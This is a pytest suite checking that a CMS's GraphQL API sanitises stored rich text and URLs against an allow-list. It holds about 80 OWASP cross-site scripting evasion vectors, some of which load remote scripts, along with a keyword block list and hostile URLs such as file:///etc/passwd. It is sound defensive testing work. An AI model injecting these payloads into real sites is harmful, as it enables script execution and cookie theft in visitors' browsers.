"""HTML that reaches a browser is safe: rich text stored outside the editor (an import, a
migration, the shell) comes out of every HTML field of the API (paragraphs, fact boxes,
commitments, the footer) cleaned against the editors' allow-list, whatever it holds. The
hostile inputs are the classic vectors of the OWASP XSS Filter Evasion Cheat Sheet."""

import re
from html.parser import HTMLParser

import pytest

from cms.api.images import PRESETS
from cms.api.sanitize import FEATURE_TAGS, clean_html, editor_features
from cms.factories import CustomImageFactory, SiteSettingsFactory, StandardPageFactory
from tests.helpers import count_queries, gql_data, publish

pytestmark = pytest.mark.django_db

# What may come out, written down here independently of the implementation.
ALLOWED = {
    "p": set(),
    "br": set(),
    "b": set(),
    "strong": set(),
    "i": set(),
    "em": set(),
    "ol": set(),
    "ul": set(),
    "li": set(),
    "h3": set(),
    "h4": set(),
    "a": {"href", "rel"},
    "figure": {"class"},
    "img": {"src", "width", "height", "alt", "data-credit"},
    "figcaption": {"class"},
}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
#: What browsers ignore in a URL: C0 controls, space, DEL and C1 controls.
URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]")
FORBIDDEN = (
    "<script",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "javascript:",
    "vbscript:",
    "data:text/html",
    "<iframe",
    "<object",
    "<embed",
    "<svg",
    "<style",
    "style=",
    "expression(",
    "<meta",
    "<base",
    "<link",
)

XSS = "alert('XSS')"
ENCODED = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"  # javascript:
LONG_ENCODED = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")  # no semicolons
HEX_ENCODED = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")
SVG_SCRIPT = (  # <svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
    "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+"
    "YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4="
)

#: The OWASP XSS Filter Evasion Cheat Sheet's classic vectors (and a few on links and on the
#: very tags and attributes the allow-list keeps).
VECTORS = [
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<script>alert(1)</script>",
    f'<IMG SRC="javascript:{XSS};">',
    f"<IMG SRC=javascript:{XSS}>",
    f"<IMG SRC=JaVaScRiPt:{XSS}>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    f'<img src=x onerror="{LONG_ENCODED}">',
    f"<IMG SRC={ENCODED}&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    f"<IMG SRC={LONG_ENCODED}>",
    f"<IMG SRC={HEX_ENCODED}>",
    f'<IMG SRC="jav\tascript:{XSS};">',
    f'<IMG SRC="jav&#x09;ascript:{XSS};">',
    f'<IMG SRC="jav&#x0A;ascript:{XSS};">',
    f'<IMG SRC="jav&#x0D;ascript:{XSS};">',
    f"<IMG SRC=java\x00script:{XSS}>",
    f'<IMG SRC=" &#14;  javascript:{XSS};">',
    '<SCRIPT/XSS SRC="http://x/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://x/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://x/xss.js?< B >",
    "<SCRIPT SRC=//x/.j>",
    f'<IMG SRC="javascript:{XSS}"',
    "<iframe src=http://x/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    f'<INPUT TYPE="IMAGE" SRC="javascript:{XSS};">',
    f'<BODY BACKGROUND="javascript:{XSS}">',
    f'<IMG DYNSRC="javascript:{XSS}">',
    f'<IMG LOWSRC="javascript:{XSS}">',
    f'<STYLE>li {{list-style-image: url("javascript:{XSS}");}}</STYLE><UL><LI>XSS</br>',
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<BODY ONLOAD={XSS}>",
    f'<BGSOUND SRC="javascript:{XSS};">',
    f'<LINK REL="stylesheet" HREF="javascript:{XSS};">',
    "<STYLE>@import'http://x/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://x/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://x/xssmoz.xml#xss")}</STYLE>',
    f'<IMG STYLE="xss:expr/*XSS*/ession({XSS})">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{XSS};">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    f'<IFRAME SRC="javascript:{XSS};"></IFRAME>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    f'<FRAMESET><FRAME SRC="javascript:{XSS};"></FRAMESET>',
    f'<TABLE BACKGROUND="javascript:{XSS}">',
    f'<TABLE><TD BACKGROUND="javascript:{XSS}">',
    f'<DIV STYLE="background-image: url(javascript:{XSS})">',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058"
    ".1053\\0053\\0027\\0029'\\0029\">",
    f'<DIV STYLE="width: expression({XSS});">',
    f'<BASE HREF="javascript:{XSS};//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://x/scriptlet.html"></OBJECT>',
    f'<EMBED SRC="data:image/svg+xml;base64,{SVG_SCRIPT}" type="image/svg+xml" '
    'AllowScriptAccess="always"></EMBED>',
    f"<!--[if gte IE 4]><SCRIPT>{XSS};</SCRIPT><![endif]-->",
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="  javascript:alert(1)">link</a>',
    '<a href="jav&#x09;ascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">link</a>',
    '<a href="javas&#99;ript:alert(1)">link</a>',
    '<a href="&#1;javascript:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<p onclick="alert(1)">x</p><b onmouseover=alert(1)>y</b>',
    '<a href="#" style="color: expression(alert(1))">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<figure class="image" onclick="alert(1)"><img src="javascript:alert(1)" '
    'data-credit="x" onload="alert(1)"><figcaption class="credit" style="x">c</figcaption>'
    "</figure>",
    '<a href="https://evil.example/" target="_blank" rel="opener" onclick="alert(1)">x</a>',
    '<embed embedtype="media" url="https://www.youtube.com/watch?v=x"/>',
    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
]
#: PostgreSQL cannot store NUL in text, so a NUL vector never reaches a stored page there;
#: it is still checked against ``clean_html`` directly.
STORABLE_VECTORS = [vector for vector in VECTORS if "\x00" not in vector]


class Checker(HTMLParser):
    """Parses output like a browser would read it and records anything executable."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.problems.append(f"element <{tag}>")
            return
        for name, value in attrs:
            if name.startswith("on") or name not in ALLOWED[tag]:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src"):
                # The parser has decoded the entities; browsers drop controls and spaces.
                url = URL_NOISE.sub("", value or "").lower()
                scheme = SCHEME.match(url)
                if scheme and scheme[1] not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r}")
            if name == "rel" and value != "noopener noreferrer":
                self.problems.append(f"rel={value!r}")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data):
        self.problems.append(f"declaration {data!r}")


def assert_inert(html):
    """No element outside the allow-list, no ``on*`` attribute, no URL with another scheme."""
    checker = Checker()
    checker.feed(html)
    checker.close()
    assert checker.problems == [], html


def assert_safe(html):
    """Inert, and none of the usual suspects anywhere, not even as text."""
    assert_inert(html)
    lowered = html.lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, (needle, html)


HOSTILE = """
query Hostile($path: String!) {
  page(path: $path) {
    ... on StandardPage {
      body {
        id blockType
        ... on ParagraphBlock { html }
        ... on FactBoxBlock { html }
        ... on CommitmentBlock { html }
        ... on EmbedBlock { url }
      }
    }
  }
  site(locale: "sv") { footer { html } }
}
"""


def body(paragraph, fact_box, commitment):
    return [
        {"type": "paragraph", "id": "b-paragraph", "value": paragraph},
        {"type": "fact_box", "id": "b-facts", "value": {"title": "Fakta", "body": fact_box}},
        {
            "type": "commitment",
            "id": "b-commitment",
            "value": {"heading": "Löfte", "text": commitment, "to_report": []},
        },
    ]


def stored_as_imported(parent, locale, slug, blocks):
    """A page whose body was set as an import or the shell would: raw values, no editor."""
    page = StandardPageFactory(parent=parent, locale=locale, slug=slug)
    page.body = blocks
    page.save()
    return publish(page)


def html_fields(client, path):
    data = gql_data(client, HOSTILE, {"path": path})
    blocks = {block["id"]: block for block in data["page"]["body"]}
    return blocks, data["site"]["footer"]["html"]


# --- every HTML field, every vector ---------------------------------------------------------------


@pytest.mark.parametrize("vector", STORABLE_VECTORS)
def test_hostile_html_stored_outside_the_editor_comes_out_inert(client, sv, home_sv, vector):
    stored_as_imported(
        home_sv,
        sv,
        "fientlig",
        body(vector, f"<p>Fakta {vector}</p>", f"<ul><li>{vector}</li></ul>"),
    )
    SiteSettingsFactory(locale=sv, footer_text=f"<p>Sidfot</p>{vector}")

    blocks, footer = html_fields(client, "/sv/fientlig/")

    assert {"b-paragraph", "b-facts", "b-commitment"} <= set(blocks)
    for html in (
        blocks["b-paragraph"]["html"],
        blocks["b-facts"]["html"],
        blocks["b-commitment"]["html"],
        footer,
    ):
        assert_safe(html)
    assert blocks["b-facts"]["html"].startswith("<p>Fakta ")
    assert footer.startswith("<p>Sidfot</p>")


@pytest.mark.parametrize("vector", VECTORS)
def test_the_sanitiser_is_stable_on_its_own_output(vector):
    """Cleaning twice changes nothing: nothing the browser re-parses differently remains."""
    once = clean_html(vector)
    assert_safe(once)
    assert clean_html(once) == once


def test_enough_owasp_vectors():
    assert len(VECTORS) >= 25


def test_text_of_removed_markup_is_kept_and_script_content_is_not():
    assert clean_html('<p>Hej <span style="x">du</span> <u>där</u></p>') == "<p>Hej du där</p>"
    assert clean_html("<p>a<script>alert(1)</script>b<style>p{}</style>c</p>") == "<p>abc</p>"
    assert clean_html('<p data-block-key="x1">Text<br/>mer</p>') == "<p>Text<br>mer</p>"


def test_every_configured_editor_feature_has_an_allow_list():
    """A feature added to an editor must be added to the sanitiser on purpose (its markup
    would otherwise be stripped to text); media embeds are never allowed as stored HTML."""
    assert editor_features() <= set(FEATURE_TAGS)
    assert "embed" not in FEATURE_TAGS


# --- what is kept ---------------------------------------------------------------------------------


def test_external_links_get_rel_and_internal_links_keep_their_path(client, sv, home_sv):
    contact = publish(
        StandardPageFactory(parent=home_sv, locale=sv, title="Kontakt", slug="kontakt")
    )
    stored_as_imported(
        home_sv,
        sv,
        "lankar",
        body(
            f'<p>Se <a linktype="page" id="{contact.pk}">kontakt</a>, '
            '<a href="https://example.org/a?b=1&amp;c=2">extern</a>, '
            '<a href="http://example.org/" target="_blank" rel="opener">gammal</a>, '
            '<a href="//example.org/">utan schema</a>, '
            '<a href="mailto:info@icld.se">e-post</a>, <a href="tel:+4612345">telefon</a> '
            'och <a href="#fakta">ankare</a>.</p>',
            '<p><a href="https://icld.se/">ICLD</a></p>',
            f'<p><a linktype="page" id="{contact.pk}">Kontakt</a></p>',
        ),
    )
    SiteSettingsFactory(locale=sv, footer_text='<p><a href="https://icld.se/">ICLD</a></p>')

    blocks, footer = html_fields(client, "/sv/lankar/")

    assert blocks["b-paragraph"]["html"] == (
        '<p>Se <a href="/sv/kontakt/">kontakt</a>, '
        '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer">extern</a>, '
        '<a href="http://example.org/" rel="noopener noreferrer">gammal</a>, '
        '<a href="//example.org/" rel="noopener noreferrer">utan schema</a>, '
        '<a href="mailto:info@icld.se">e-post</a>, <a href="tel:+4612345">telefon</a> '
        'och <a href="#fakta">ankare</a>.</p>'
    )
    external = '<p><a href="https://icld.se/" rel="noopener noreferrer">ICLD</a></p>'
    assert blocks["b-facts"]["html"] == external
    assert blocks["b-commitment"]["html"] == '<p><a href="/sv/kontakt/">Kontakt</a></p>'
    assert footer == external


def test_our_image_figure_with_its_credit_survives_intact(client, sv, home_sv):
    image = CustomImageFactory(credit="Alice & Bob", description="Standard")
    stored_as_imported(
        home_sv,
        sv,
        "bild",
        body(
            f'<p>Före</p><embed embedtype="image" id="{image.pk}" format="left" '
            'alt="Två personer"/>'
            f'<embed embedtype="image" id="{image.pk}" format="left&quot; onload=&quot;alert(1)" '
            'alt="x&quot; onerror=&quot;alert(1)"/>',
            "<p>Fakta</p>",
            "<p>Löfte</p>",
        ),
    )

    blocks, _ = html_fields(client, "/sv/bild/")

    rendition = image.get_rendition(PRESETS["CONTENT"].base)
    img = (
        f'<img src="{rendition.url}" width="{rendition.width}" height="{rendition.height}" '
        'alt="{alt}" data-credit="Alice &amp; Bob">'
    )
    caption = '<figcaption class="credit">Alice &amp; Bob</figcaption>'
    html = blocks["b-paragraph"]["html"]
    assert html.startswith(
        '<p>Före</p><figure class="image image--left">'
        + img.replace("{alt}", "Två personer")
        + caption
        + "</figure>"
    )
    # The hostile embed still becomes our figure: its attributes are text inside our quotes
    # (so "onerror" is there, as text of the alt attribute) and its format class is dropped.
    assert html.count("<figure") == 2
    assert '<figure class="image">' in html
    assert 'alt="x&amp;quot; onerror=&amp;quot;alert(1)"' in html
    assert_inert(html)


def test_embeds_come_only_from_the_embed_finders(client, sv, home_sv):
    blocks = [
        {"type": "embed", "id": "e-youtube", "value": "https://www.youtube.com/watch?v=abc123"},
        {"type": "embed", "id": "e-script", "value": "javascript:alert(1)"},
        {"type": "embed", "id": "e-data", "value": "data:text/html,<script>alert(1)</script>"},
        {"type": "embed", "id": "e-unknown", "value": "https://evil.example/player"},
        {
            "type": "paragraph",
            "id": "e-paragraph",
            "value": '<p>Video</p><embed embedtype="media" url="https://vimeo.com/1"/>'
            '<iframe src="https://www.youtube.com/embed/abc123"></iframe>',
        },
    ]
    stored_as_imported(home_sv, sv, "inbaddat", blocks)

    body_blocks, _ = html_fields(client, "/sv/inbaddat/")

    assert [block["id"] for block in body_blocks.values()] == ["e-youtube", "e-paragraph"]
    assert body_blocks["e-youtube"]["url"] == "https://www.youtube.com/watch?v=abc123"
    assert body_blocks["e-paragraph"]["html"] == "<p>Video</p>"


# --- cost -----------------------------------------------------------------------------------------


BODY_QUERY = """query($path: String!) { page(path: $path) { ... on StandardPage { body {
  id ... on ParagraphBlock { html } ... on FactBoxBlock { html } ... on CommitmentBlock { html }
} } } }"""


def test_sanitising_costs_no_queries(client, sv, home_sv):
    """A body full of hostile markup costs the same queries as the same body without it."""
    contact = publish(StandardPageFactory(parent=home_sv, locale=sv, slug="kontakt"))
    link = f'<a linktype="page" id="{contact.pk}">kontakt</a>'
    stored_as_imported(home_sv, sv, "snall", body(f"<p>{link}</p>", "<p>a</p>", "<p>b</p>"))
    hostile = "".join(STORABLE_VECTORS)
    stored_as_imported(
        home_sv,
        sv,
        "elak",
        body(f"<p>{link}</p>{hostile}", f"<p>a</p>{hostile}", f"<p>b</p>{hostile}"),
    )

    plain, response = count_queries(client, BODY_QUERY, {"path": "/sv/snall/"})
    assert response.status_code == 200
    cleaned, response = count_queries(client, BODY_QUERY, {"path": "/sv/elak/"})
    assert response.status_code == 200
    blocks = response.json()["data"]["page"]["body"]
    assert '<a href="/sv/kontakt/">kontakt</a>' in blocks[0]["html"]
    for block in blocks:
        assert_safe(block["html"])
    assert cleaned == plain


# --- URLs outside rich text -------------------------------------------------------------------

SAFE_URLS = [
    "https://icld.se/en/",
    "http://example.org/a?b=c#d",
    "mailto:info@icld.se",
    "tel:+46498299080",
    "/sv/om-oss/",
    "#kontakt",
]
HOSTILE_URLS = [
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "file:///etc/passwd",
]
URLS_QUERY = """query($path: String!) {
  page(path: $path) { ... on StandardPage { body { id ... on CallToActionBlock { url } } } }
  site(locale: "sv") { menu { title url } footer { links { url } social { service url } } }
}"""


def test_stored_urls_reach_the_api_only_with_safe_schemes(client, sv, home_sv):
    """Call-to-action, menu, footer and social-media URLs set past the admin's validation
    (an import, the shell) come out only when a browser cannot run them."""
    urls = SAFE_URLS + HOSTILE_URLS
    stored_as_imported(
        home_sv,
        sv,
        "lankar",
        [
            {"type": "call_to_action", "id": f"cta-{n}", "value": {"text": "Läs", "url": url}}
            for n, url in enumerate(urls)
        ],
    )
    links = [
        {"type": "link", "value": {"url": url, "title": f"L{n}"}} for n, url in enumerate(urls)
    ]
    SiteSettingsFactory(
        locale=sv,
        menu=links,
        footer_links=links,
        social_links=[
            {"type": "link", "value": {"service": f"S{n}", "url": url}}
            for n, url in enumerate(urls)
        ],
    )

    data = gql_data(client, URLS_QUERY, {"path": "/sv/lankar/"})

    safe = len(SAFE_URLS)
    assert [block["url"] for block in data["page"]["body"]] == SAFE_URLS
    assert [block["id"] for block in data["page"]["body"]] == [f"cta-{n}" for n in range(safe)]
    assert data["site"]["menu"] == [
        {"title": f"L{n}", "url": url} for n, url in enumerate(SAFE_URLS)
    ]
    assert [link["url"] for link in data["site"]["footer"]["links"]] == SAFE_URLS
    assert [link["url"] for link in data["site"]["footer"]["social"]] == SAFE_URLS
